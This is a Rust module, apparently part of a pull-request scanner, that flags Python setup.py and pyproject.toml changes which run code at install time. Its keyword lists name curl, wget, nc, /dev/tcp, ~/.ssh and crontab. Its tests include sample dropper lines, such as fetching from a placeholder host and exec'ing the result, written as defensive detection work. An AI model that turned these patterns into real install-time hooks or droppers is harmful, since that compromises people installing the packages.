//! Python install-time code: what a changed `setup.py` does when pip builds or installs the
//! package, and a `pyproject.toml` that builds with a backend from the repository itself.
//!
//! What it detects, on added lines (high):
//! - an overridden install step: `cmdclass` mapping `install`, `develop`, `egg_info`,
//!   `build_py`, `build_ext`, `bdist_egg` or `bdist_wheel` to the package's own class;
//! - dynamic code: `exec`/`eval`/`compile` of anything but a file being read (the common
//!   `exec(open("pkg/version.py").read())` is not one) or a parsed version line, `__import__`,
//!   `vars(__builtins__)`, `marshal.loads`, base64/zlib/codecs decoding;
//! - commands that fetch, hide or replace the process (`curl`, `wget`, PowerShell, `nc`,
//!   `/dev/tcp`, `base64`, `os.exec*`, distutils `spawn`), and a download (`urlopen`,
//!   `urlretrieve`, `requests.get`, sockets) together with any of these;
//! - writes outside the package: executable bits (`S_IEXEC`, `chmod 0o755`), shell profiles,
//!   `~/.ssh`, `crontab`, autostart folders;
//! - `pyproject.toml` `backend-path` pointing into the repository (an in-tree build backend):
//!   the backend's code runs on every `pip install`, from files this PR may change.
//!
//! Not findings (GuardDog's documented benign cases): reading `__version__` with `exec`,
//! `subprocess`/`os.system` running ordinary build and release tools (`git`, `cmake`,
//! `pkg-config`, `twine`, `pandoc`, `pip freeze`), a download of a data file with nothing run.
//!
//! Sources (read 2026-12-06): DataDog GuardDog rules and their tests (`cmd-overwrite`,
//! `code-execution`, `exec-base64`, `download-executable`, `threat-setup-*`); PEP 517
//! ("in-tree build backends", `backend-path`); setuptools "Extending or customizing
//! setuptools" (`cmdclass`).

/// `cmdclass` keys whose command runs on install or build.
const INSTALL_COMMANDS: &[&str] = &[
    "install",
    "develop",
    "egg_info",
    "build_py",
    "build_ext",
    "bdist_egg",
    "bdist_wheel",
];

/// Calls that run code built at run time.
const DYNAMIC_CODE: &[&str] = &["exec(", "eval(", "compile("];

/// Signs that the code run is hidden or assembled.
const HIDDEN_CODE: &[&str] = &[
    "__import__(",
    "__builtins__",
    "import system as",
    "import popen as",
    "import urlopen as",
    "marshal.loads",
    "b64decode",
    "base64.",
    "zlib.decompress",
    "codecs.decode",
    "fromhex(",
];

/// Arguments that make `exec`/`eval` the version-reading idiom (a local file or a parsed line).
const READS_A_FILE: &[&str] = &["open(", "f.read(", "read_text(", ".split(", ".strip("];

/// Calls that start a process.
const PROCESS_CALLS: &[&str] = &[
    "os.system(",
    "os.popen(",
    "popen(",
    "subprocess.call(",
    "subprocess.run(",
    "check_call(",
    "check_output(",
    "spawn(",
];

/// Programs a `setup.py` runs to build or release (GuardDog's `code-execution` test marks these
/// `ok`): a process call whose program is one of them is not a finding.
const BUILD_TOOLS: &[&str] = &[
    "git",
    "cmake",
    "make",
    "ninja",
    "meson",
    "pkg-config",
    "pip",
    "pip3",
    "twine",
    "gpg",
    "pandoc",
    "coverage",
    "cd",
    "echo",
    "gcc",
    "cc",
    "g++",
    "clang",
    "cython",
    "protoc",
    "swig",
    "npm",
    "node-gyp",
    "cargo",
    "rustc",
    "go",
    "javac",
    "mvn",
    "autoreconf",
    "./configure",
];

/// File names a download may not fetch without running it.
const EXECUTABLE_NAMES: &[&str] = &[
    ".exe", ".sh\"", ".bin\"", ".dll", ".so\"", ".msi", ".bat", ".ps1",
];

/// Commands and calls that fetch, hide or replace the process.
const COMMANDS: &[&str] = &[
    "curl ",
    "wget ",
    "invoke-webrequest",
    "powershell",
    "/dev/tcp",
    "nc -",
    "ncat ",
    "base64 -d",
    "os.exec",
    "execve(",
    "spawn(",
];

/// Calls that download.
const DOWNLOADS: &[&str] = &[
    "urlopen(",
    "urlretrieve(",
    "requests.get(",
    "requests.post(",
    "urllib2",
    "http.client",
    "socket.socket(",
    "socket.create_connection(",
];

/// Writes outside the package being installed.
const OUTSIDE_WRITES: &[&str] = &[
    "s_iexec",
    "0o755",
    "0o777",
    "chmod +x",
    ".bashrc",
    ".bash_profile",
    ".zshrc",
    ".profile",
    ".ssh/",
    "authorized_keys",
    "crontab",
    "autostart",
    "/etc/",
];

/// The reasons added `setup.py` lines run code at install time (empty when none do).
pub fn reasons<'a>(added: impl Iterator<Item = &'a str>) -> Vec<&'static str> {
    let lines: Vec<&str> = added
        .map(|line| {
            if line.trim_start().starts_with('#') {
                ""
            } else {
                line
            }
        })
        .collect();
    let mut reasons: Vec<&'static str> = Vec::new();
    let mut download = false;
    let push = |reason: &'static str, reasons: &mut Vec<&'static str>| {
        if !reasons.contains(&reason) {
            reasons.push(reason);
        }
    };
    for line in lines.iter().copied() {
        let code = line.split(" #").next().unwrap_or(line);
        let code = if code.trim_start().starts_with('#') {
            ""
        } else {
            code
        };
        let lower = code.to_ascii_lowercase();
        if lower.contains("cmdclass") {
            let overrides = super::model::quoted_strings(code)
                .iter()
                .any(|key| INSTALL_COMMANDS.contains(key))
                || INSTALL_COMMANDS
                    .iter()
                    .any(|command| lower.contains(&format!("{command}=")));
            if overrides {
                push("overrides the install command (cmdclass)", &mut reasons);
            }
        }
        let dynamic = DYNAMIC_CODE.iter().any(|call| {
            lower.match_indices(call).any(|(at, _)| {
                let before = lower.get(..at).and_then(|b| b.chars().next_back());
                let argument = lower.get(at + call.len()..).unwrap_or("");
                before.is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '_' || c == '.'))
                    && (argument.contains("urlopen(")
                        || !READS_A_FILE.iter().any(|read| argument.contains(read)))
            })
        });
        if dynamic || HIDDEN_CODE.iter().any(|call| lower.contains(call)) {
            push(
                "runs hidden or dynamic code (exec/eval, decoding, __import__)",
                &mut reasons,
            );
        }
        if COMMANDS.iter().any(|command| lower.contains(command)) {
            push(
                "runs a command that fetches or hides what it does",
                &mut reasons,
            );
        }
        if OUTSIDE_WRITES.iter().any(|path| lower.contains(path)) {
            push(
                "writes outside the package (executable bits, shell profile, ~/.ssh, crontab)",
                &mut reasons,
            );
        }
        if DOWNLOADS.iter().any(|call| lower.contains(call)) {
            download = true;
            if EXECUTABLE_NAMES.iter().any(|name| lower.contains(name)) {
                push("downloads an executable", &mut reasons);
            }
        }
    }
    let text: String = lines.join("\n");
    if let Some(program) = process_calls(&text).into_iter().find(|call| !builds(call)) {
        let _ = program;
        push(
            "starts a process other than a build or release tool",
            &mut reasons,
        );
    }
    if download && !reasons.is_empty() {
        reasons.insert(0, "downloads and runs code");
    }
    reasons
}

/// The text of every process call (`os.system(…)`, `subprocess.Popen(…)`), parentheses balanced
/// across lines, lower-cased.
fn process_calls(text: &str) -> Vec<String> {
    let lower = text.to_ascii_lowercase();
    let mut calls = Vec::new();
    for call in PROCESS_CALLS {
        for (at, _) in lower.match_indices(call) {
            let before = lower.get(..at).and_then(|b| b.chars().next_back());
            if call == &"popen(" && before.is_some_and(|c| c == '.' || c.is_ascii_alphanumeric()) {
                // `subprocess.Popen(` and `os.popen(` are matched here too, once.
                if !lower.get(..at).is_some_and(|b| b.ends_with("subprocess.")) {
                    continue;
                }
            }
            let start = at + call.len();
            let mut depth = 1usize;
            let mut end = start;
            for (offset, c) in lower.get(start..).unwrap_or("").char_indices() {
                match c {
                    '(' | '[' | '{' => depth += 1,
                    ')' | ']' | '}' => depth = depth.saturating_sub(1),
                    _ => {}
                }
                end = start + offset;
                if depth == 0 {
                    break;
                }
            }
            calls.push(lower.get(start..end).unwrap_or("").to_string());
        }
    }
    calls
}

/// Whether a process call runs a build or release tool: its program is a string literal naming
/// one of [`BUILD_TOOLS`], or Python (`sys.executable`, `python`, `{0}`) running `-m`, `setup.py`
/// or a `.py` file named in the call.
fn builds(call: &str) -> bool {
    let trimmed = call.trim_start_matches(|c: char| c.is_whitespace() || c == '[' || c == '(');
    let quoted = trimmed.starts_with(['"', '\'']) || trimmed.starts_with("f\"");
    let words: Vec<&str> = trimmed
        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ',' | '[' | ']'))
        .filter(|word| !word.is_empty() && *word != "f")
        .collect();
    let program = words.first().copied().unwrap_or("");
    let python = matches!(
        program,
        "python" | "python3" | "sys.executable" | "{0}" | "{}"
    );
    let python_ok = python
        && words
            .get(1)
            .is_some_and(|next| *next == "-m" || next.ends_with(".py"));
    (quoted && BUILD_TOOLS.contains(&program)) || python_ok
}

/// Whether an added `pyproject.toml` line points the build backend into the repository.
pub fn in_tree_backend(line: &str) -> bool {
    let compact: String = line.chars().filter(|c| !c.is_whitespace()).collect();
    compact.starts_with("backend-path=")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(lines: &[&str]) -> Vec<&'static str> {
        reasons(lines.iter().copied())
    }

    #[test]
    fn install_overrides_hidden_code_and_outside_writes_are_reasons() {
        assert_eq!(of(&["    cmdclass={'install': PostInstall},"]).len(), 1);
        assert_eq!(of(&["exec(base64.b64decode('cHJpbnQoMSk='))"]).len(), 1);
        assert_eq!(of(&["vars(__builtins__)['eval'](payload)"]).len(), 1);
        assert_eq!(of(&["os.chmod(path, st.st_mode | stat.S_IEXEC)"]).len(), 1);
        let dropper = of(&["data = urlopen('https://x.example/p').read()", "exec(data)"]);
        assert_eq!(dropper.first(), Some(&"downloads and runs code"));
        assert!(!of(&["subprocess.Popen(", "    cmd,", "    shell=True,", ")"]).is_empty());
        assert!(!of(&["os.system(\"start \" + filename)"]).is_empty());
    }

    #[test]
    fn version_reading_release_tools_and_metadata_are_not() {
        for line in [
            "exec(open(\"pkg/version.py\").read())",
            "exec(f.read(), about)",
            "version = eval(line.strip().split(\" = \")[-1])",
            "os.system(\"twine upload dist/*\")",
            "subprocess.check_call([\"cmake\", \"--build\", \".\"])",
            "subprocess.run([sys.executable, \"-m\", \"pre_commit\", \"install\"])",
            "os.system(\"{0} setup.py sdist bdist_wheel --universal\".format(sys.executable))",
            "    cmdclass={\"upload\": UploadCommand},",
            "urllib.request.urlretrieve(\"https://example.org/data.txt\", \"data.txt\")",
            "    url=\"https://github.com/example/pkg\",",
        ] {
            assert!(of(&[line]).is_empty(), "{line}");
        }
    }

    #[test]
    fn a_backend_path_is_an_in_tree_backend() {
        assert!(in_tree_backend("backend-path = [\".\"]"));
        assert!(!in_tree_backend(
            "build-backend = \"setuptools.build_meta\""
        ));
    }
}
